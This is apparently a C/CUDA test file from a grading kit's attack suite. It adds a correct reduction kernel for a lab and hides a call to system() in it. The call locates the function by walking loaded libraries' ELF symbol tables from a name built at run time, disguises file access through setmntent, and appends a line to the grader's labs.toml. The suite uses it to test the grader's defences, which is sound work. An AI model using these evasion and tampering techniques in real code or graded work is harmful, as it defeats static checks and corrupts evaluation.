/*
 * ATTACK 07-capability-dl-iterate-phdr: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 03-sequential, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: call system() without naming it: no undefined symbol `system` in the object for a list of denied names to
 *   match.
 *
 * How: dl_iterate_phdr walks the loaded objects; the C library's dynamic symbol table (through its DT_GNU_HASH
 *   table) gives the address of the function whose name is spelled out at run time, s-y-s-t-e-m. The shell it runs
 *   appends a line to KIT/grader/labs.toml.
 *
 * Safety: the file it changes is inside the kit copy the suite made (kit_root() needs the suite's marker).
 */
#include "reduce.h"

#include <link.h>
#include <stdint.h>
#include <mntent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* ---- files through names the kit's static checks did not list ----
 * glibc's setmntent(path, mode) is fopen(path, mode) with two flags added, endmntent is fclose; fgetc and fputs read
 * and write through the FILE it returns; canonicalize_file_name is realpath by another name. */
/* Paths and numbers without printf or strtol: code run before main (an IFUNC resolver) finds the C library's locale
 * not set up yet, and strtol would crash there. */
static void join(char *out, size_t cap, const char *a, const char *b, const char *c = "")
{
    out[0] = '\0';
    strncat(out, a, cap - 1);
    strncat(out, b, cap - 1 - strlen(out));
    strncat(out, c, cap - 1 - strlen(out));
}

static FILE *open_file(const char *path, const char *mode) { return setmntent(path, mode); }
static void close_file(FILE *f) { endmntent(f); }

static bool exists(const char *path)
{
    FILE *f = open_file(path, "r");
    if (f)
        close_file(f);
    return f != NULL;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    join(probe, sizeof probe, dir, "/grader/labs.toml");
    if (!exists(probe))
        return false;
    join(probe, sizeof probe, dir, "/.attack-suite-copy");
    return exists(probe);
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, size_t cap)
{
    if (getcwd(root, cap) && is_kit_copy(root))
        return true;
    char *exe = canonicalize_file_name("/proc/self/exe");
    if (!exe)
        return false;
    bool found = false;
    char *copy = strstr(exe, "/ppl-attacks-"), *kit = strstr(exe, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        join(root, cap, exe, "");
        found = true;
    }
    for (char *slash = strrchr(exe, '/'); slash && slash != exe && !found; slash = strrchr(exe, '/')) {
        *slash = '\0';
        if (is_kit_copy(exe)) {
            join(root, cap, exe, "");
            found = true;
        }
    }
    free(exe);
    return found;
}

/* ---- a function of the C library found without naming it ----
 * dl_iterate_phdr lists the loaded objects; each one's dynamic section leads to its symbol table and string table,
 * which are searched for the name. No dlsym, no undefined symbol of that name in the object. */
struct wanted {
    const char *name;
    void *address;
};

/* The number of symbols in a DT_GNU_HASH table (the highest symbol a bucket or chain reaches, plus one). */
static size_t gnu_hash_symbols(const uint32_t *table)
{
    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
    const uint32_t *chain = bucket + buckets;
    uint32_t last = 0;
    for (uint32_t k = 0; k < buckets; k++)
        last = bucket[k] > last ? bucket[k] : last;
    if (last < offset)
        return offset;
    while (!(chain[last - offset] & 1))
        last++;
    return last + 1;
}

static int look_in(struct dl_phdr_info *info, size_t, void *data)
{
    wanted *w = (wanted *)data;
    const ElfW(Dyn) *dyn = NULL;
    for (int k = 0; k < info->dlpi_phnum; k++)
        if (info->dlpi_phdr[k].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[k].p_vaddr);
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    size_t count = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        ElfW(Addr) p = dyn->d_un.d_ptr;
        if (p < info->dlpi_addr) /* not relocated in place (the vDSO) */
            p += info->dlpi_addr;
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const ElfW(Sym) *)p;
        else if (dyn->d_tag == DT_STRTAB)
            names = (const char *)p;
        else if (dyn->d_tag == DT_HASH)
            count = ((const uint32_t *)p)[1];
        else if (dyn->d_tag == DT_GNU_HASH && !count)
            count = gnu_hash_symbols((const uint32_t *)p);
    }
    for (size_t k = 0; symbols && names && k < count; k++)
        if (symbols[k].st_value && ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC &&
            strcmp(names + symbols[k].st_name, w->name) == 0) {
            w->address = (void *)(info->dlpi_addr + symbols[k].st_value);
            return 1;
        }
    return 0;
}

static void *find_function(const char *name)
{
    wanted w = {name, NULL};
    dl_iterate_phdr(look_in, &w);
    return w.address;
}

#define BLOCK_DIM 1024 /* threads per block, and elements each block reduces */

/* Lab 03's kernel, filled in: a correct reduction, so that only the attack below decides the verdict. */
__global__ void reduce_kernel(const float *src, float *dst, size_t count)
{
    __shared__ float partial[BLOCK_DIM];
    const unsigned t = threadIdx.x;
    const size_t i = (size_t)blockIdx.x * BLOCK_DIM + t;
    partial[t] = i < count ? src[i] : 0.0f;
    __syncthreads();
    for (unsigned stride = BLOCK_DIM / 2; stride > 0; stride /= 2) {
        if (t < stride)
            partial[t] += partial[t + stride];
        __syncthreads();
    }
    if (t == 0)
        dst[blockIdx.x] = partial[0];
}

static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
{
    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
}

static void attack(void)
{
    char root[4096], command[8192];
    const char name[] = {'s', 'y', 's', 't', 'e', 'm', '\0'};
    if (!kit_root(root, sizeof root))
        return;
    int (*run_shell)(const char *) = (int (*)(const char *))find_function(name);
    snprintf(command, sizeof command, "echo '# appended by a lab program through system()' >> '%s/grader/labs.toml'",
             root);
    if (run_shell)
        run_shell(command);
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    reduce_tree_of_blocks(d_in, d_out, n, d_work, BLOCK_DIM, reduce_pass);
}
